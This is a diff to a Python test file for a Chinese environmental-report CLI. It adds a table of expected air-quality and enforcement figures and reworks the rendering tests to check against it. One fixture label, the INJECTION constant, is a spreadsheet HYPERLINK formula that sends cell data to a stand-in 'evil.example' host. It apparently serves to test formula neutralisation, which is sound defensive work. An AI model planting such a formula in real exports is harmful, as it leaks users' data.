@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import html
 import io
 import json
 import zipfile
@@ -17,7 +18,7 @@ from conftest_render import (
     AIR_2022, SEED_2022, CITY_AIR, CITY_AIR_2022, MONTHLY, comparison, make_change, seed_comparison, summary,
 )
 from lawreport_cli.metrics.registry import BY_ID, SECTIONS
-from lawreport_cli.model import Change, format_value
+from lawreport_cli.model import Change
 from lawreport_cli.numbers import half_up, wan_json, wan_text
 from lawreport_cli.render import COMPARE_FORMATS, FILE_EXPORTERS, SUMMARY_FORMATS
 from lawreport_cli.render.csvout import neutralise
@@ -26,6 +27,50 @@ from lawreport_cli.render.table import unit_suffix, yoy_text
 from lawreport_cli.render.xlsx import display_width
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+# Every figure of `full` as people read it: (label, shown value, unit), worked from the seed by hand.
+FULL_SHOWN = [
+    ('有效监测天数', '334', '天'),
+    ('无效天数', '0', '天'),
+    ('优良天数', '209', '天'),
+    ('优良天数比率', '62.6', '%'),
+    ('优级天数', '61', '天'),
+    ('重度及以上污染天数', '3', '天'),
+    ('PM2.5平均浓度', '38', 'µg/m³'),
+    ('PM10平均浓度', '70', 'µg/m³'),
+    ('SO2平均浓度', '6', 'µg/m³'),
+    ('NO2平均浓度', '27', 'µg/m³'),
+    ('CO日均值第95百分位数', '1.2', 'mg/m³'),
+    ('O3日最大8小时第90百分位数', '172', 'µg/m³'),
+    ('环境空气质量综合指数', '4.21', '—'),
+    ('检查企业家次', '2836', '家次'),
+    ('检查企业数', '1234', '家'),
+    ('双随机检查', '1500', '家次'),
+    ('信访投诉检查', '600', '家次'),
+    ('环保督察检查', '300', '家次'),
+    ('专项行动检查', '336', '家次'),
+    ('其他检查', '100', '家次'),
+    ('发现问题家次', '420', '家次'),
+    ('非现场检查', '178', '家次'),
+    ('立案数', '109', '件'),
+    ('下达处罚决定书', '63', '件'),
+    ('罚款金额', '609.7157', '万元'),
+    ('免罚', '87', '家次'),
+    ('免罚金额', '1413.2207', '万元'),
+    ('减罚', '10', '家次'),
+    ('减罚金额', '81.7796', '万元'),
+    ('移送公安机关', '15', '起'),
+    ('行政拘留', '1', '起'),
+    ('法制审核', '37', '件'),
+    ('法制审核涉及金额', '355.1235', '万元'),
+    ('案件启动', '47', '件'),
+    ('签订磋商协议', '38', '件'),
+    ('赔偿金额', '754.3000', '万元'),
+    ('学法次数', '9', '次'),
+    (INJECTION, '2.5', '@次'),
+    ('a|b', '1', ''),
+]
 
 
 @pytest.fixture
@@ -93,12 +138,12 @@ def test_table_has_section_titles_with_the_period(full):
 
 def test_table_rows_show_every_figure_with_its_unit(full):
     lines = SUMMARY_FORMATS["table"](full, "zh").splitlines()
-    for figure in full.figures.values():
-        metric = figure.metric
-        row = next(line for line in lines if line.split()[:1] == [metric.label.split()[0]])
-        assert format_value(metric, figure.value) in row.split()
-        if metric.unit:
-            assert row.split()[-1] == metric.unit
+    assert len(FULL_SHOWN) == len(full.figures)
+    for label, shown, unit in FULL_SHOWN:
+        row = next(line for line in lines if line.split()[:1] == [label.split()[0]])
+        assert shown in row.split()
+        if unit:
+            assert row.split()[-1] == unit
 
 
 def test_table_aligns_cjk_labels(full):
@@ -208,7 +253,7 @@ def markdown_tables(text: str) -> dict[str, list[list[str]]]:
                     cell = ""
                 else:
                     cell += char
-            tables[title].append(cells)
+            tables[title].append([html.unescape(cell) for cell in cells])  # as a viewer shows &amp;
     return tables
 
 
@@ -223,9 +268,9 @@ def test_markdown_round_trip(full):
         assert rows[0] == ["指标", "数值", "单位"]
         for label, value, unit in rows[1:]:
             seen[label] = (value, unit)
-    for figure in full.figures.values():
-        metric = figure.metric
-        assert seen[metric.label] == (format_value(metric, figure.value), metric.unit)
+    assert len(FULL_SHOWN) == len(full.figures)
+    for label, shown, unit in FULL_SHOWN:
+        assert seen[label] == (shown, unit)
     city_rows = tables["空气质量 · 分城市  (2023-01-01 — 2023-12-31)"]
     assert city_rows[0] == ["指标", *CITY_AIR, "单位"]
     assert [row[0] for row in city_rows[1:]][:2] == ["优良天数", "优良天数比率"]
